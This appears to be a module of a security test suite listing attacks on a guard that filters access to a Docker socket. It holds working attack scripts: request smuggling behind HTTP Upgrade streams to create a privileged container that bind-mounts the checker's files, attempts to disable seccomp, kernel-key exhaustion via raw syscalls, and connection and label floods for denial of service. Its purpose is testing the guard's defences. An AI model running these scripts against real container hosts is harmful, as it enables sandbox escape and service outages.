"""Attacks on the guard itself, on what lies behind it, and on what it lets through."""

from .attack import EVERYTHING, PODS, Attack

LATER = "later bytes pass only after the engine's 101"
SPEAK = r"""
import json, socket, subprocess, time
def docker(*words):
    return subprocess.run(["docker", *words], capture_output=True, text=True, timeout=20, stdin=subprocess.DEVNULL)
def head(target, body, *more):
    lines = [f"POST {target} HTTP/1.1", "Host: d", "Content-Type: application/json", *more, f"Content-Length: {len(body)}", "", ""]
    return "\r\n".join(lines).encode() + body
def heard(client):
    try:
        return client.recv(65536)
    except OSError:
        return b""
STOLEN = json.dumps({"Image": "busybox", "Cmd": ["sleep", "60"], "HostConfig": {"Privileged": True, "Binds": ["@CHECKER@:/s"]}}).encode()
def stolen():
    return docker("inspect", "stolen").returncode == 0
def speak(first, then, *, wait=True, end=False):
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(0.5)
        client.connect("@STUDENT@/docker.sock")
        try:
            client.sendall(first)
            said = heard(client) if wait else b""
            client.sendall(then)
            if end:
                client.shutdown(socket.SHUT_WR)
            return said + heard(client)
        except OSError:
            return b""
CREATE = head("/v1.45/containers/create?name=stolen", STOLEN)
TCP, H2C = ("Connection: Upgrade", "Upgrade: tcp"), ("Connection: Upgrade", "Upgrade: h2c")
START = b'{"Detach":false,"Tty":false}'
"""
REFUSED = (
    SPEAK
    + r"""
print(speak(head("/v1.45/exec/none/start", START, *TCP), CREATE))
if stolen():
    print("SUCCEEDED")
    docker("start", "stolen")
    docker("exec", "stolen", "mv", "/s/docker.sock", "/s/other")
"""
)
UPGRADES = (
    SPEAK
    + r"""
docker("run", "-d", "--name", "plain", "busybox", "sleep", "60")
made = docker("create", "busybox", "true").stdout.strip()
targets = [("/v1.45/exec/none/start", START), ("/v1.45/exec/none/start", b'{"Detach":true}'), ("/v1.45/containers/none/attach?stream=1", b""),
           (f"/v1.45/containers/{made}/attach", b""), ("/session", b""), ("/v1.45/session", b""), ("/grpc", b""), ("/_ping", b""), ("/v1.45/containers/plain/stop?t=0", b"")]
kinds = [(), TCP, H2C, (TCP[0], "Upgrade: TCP"), (TCP[0], "Upgrade: websocket"), (TCP[0], TCP[1], H2C[1]), ("Connection: Upgrade, HTTP2-Settings", H2C[1], "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"),
         ("Connection: keep-alive", TCP[1]), ("Expect: 100-continue", *TCP)]
import concurrent.futures
with concurrent.futures.ThreadPoolExecutor(16) as clients:
    for target, body in targets:
        for kind in kinds:
            for wait, end in ((True, False), (False, False), (False, True)):
                clients.submit(speak, head(target, body, *kind), CREATE, wait=wait, end=end)
if stolen():
    print("SUCCEEDED")
docker("rm", "-f", "plain", made)
"""
)
KEYS = r"""
import os, platform, subprocess
def docker(*words):
    done = subprocess.run(["docker", *words], capture_output=True, text=True, timeout=20, stdin=subprocess.DEVNULL)
    return done.stdout + done.stderr
call = "import ctypes; c = ctypes.CDLL(None); print('got', max(c.syscall(n, *m) for n in (%s) for m in ((0, -3, 1), (b'user', b'k', b'x', 1, -3))))"
numbers = {"x86_64": "248, 249, 250", "aarch64": "217, 218, 219"}[platform.machine()]
said = docker("run", "--rm", "python", "python3", "-c", call % numbers)
if "got" in said and "got -1" not in said:
    print("SUCCEEDED", said)
for option in ("seccomp=unconfined", "seccomp:unconfined", "systempaths=unconfined", "label=disable"):
    if "not available in grading" not in (said := docker("run", "--rm", "--security-opt", option, "busybox", "echo", "taken")) and "taken" in said:
        print("SUCCEEDED", option)
def held():
    with open("/proc/key-users") as users:
        return [int(line.split("/")[0].split()[-1]) for line in users if line.split(":")[0].strip() == str(os.getuid())] or [0]
before = held()
for number in range(5):
    docker("run", "-d", "--label", "keys", "busybox", "sleep", "60")
if held() != before:
    print("SUCCEEDED", before, held())
subprocess.run("docker rm -f $(docker ps -aq --filter label=keys)", shell=True, capture_output=True)
"""
LONG_LABELS = r"""
import docker
api = docker.from_env().api
refused = made = 0
for number in range(200):
    try:
        api.create_container("busybox", ["true"], labels={f"l{n}": "x" * 90_000 for n in range(10)})
        made += 1
    except docker.errors.APIError as error:
        refused += "shorten labels" in str(error)
print(refused, made)
if made:
    print("SUCCEEDED", made)
"""
LONG_LABELS_OF_AN_IMAGE = r"""
import docker, io, subprocess
lines = ["FROM busybox", *(f"LABEL l{n}={'x' * 50_000}" for n in range(18))]
built = subprocess.run(["docker", "build", "-q", "-t", "long", "-"], input="\n".join(lines).encode(), capture_output=True)
print(built.stderr[-300:])
api = docker.from_env().api
for number in range(20):
    api.create_container("long", ["true"])
"""
SILENT = r"""
import socket
held = []
for number in range(65):
    client = socket.socket(socket.AF_UNIX)
    client.connect("@STUDENT@/docker.sock")
    if number % 2:
        client.sendall(b"GET /events HTTP/1.1\r\nHost: d\r\n\r\n")
    held.append(client)
"""
IDLE = r"""
import resource, socket
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held = []
for number in range(4500):
    client = socket.socket()
    client.settimeout(5)
    try:
        client.connect(("127.0.0.1", 6443))
    except OSError as error:
        print(number, error)
        break
    held.append(client)
"""

ATTACKS = [
    Attack("A request behind a refused stream", LATER, REFUSED, answers=EVERYTHING),
    Attack("Streams of every kind, with requests behind them", LATER, UPGRADES, answers=EVERYTHING),
    Attack(
        "Keys of the kernel used up, and asked for",
        "containers hold none; seccomp's profile stays",
        KEYS,
        answers=EVERYTHING,
    ),
    Attack(
        "200 containers with labels of 0.9 MB", "the guard limits labels", LONG_LABELS, at="web"
    ),
    Attack(
        "Many containers of an image with long labels",
        "checks read no list without end",
        LONG_LABELS_OF_AN_IMAGE,
        at="web",
        # a busy engine makes so few of them in the time of a cell
        reason=(None, "timeout"),
        attempts=False,
    ),
    Attack(
        "All connections of the guard held",
        "the checker's socket is another",
        SILENT,
        at="file",
        answers=EVERYTHING,
    ),
    Attack(
        "Thousands of idle connections to the cluster's API",
        "the one idle for longest gives way",
        IDLE,
        at="web",
        answers=("web",),
        trial=PODS,
    ),
]
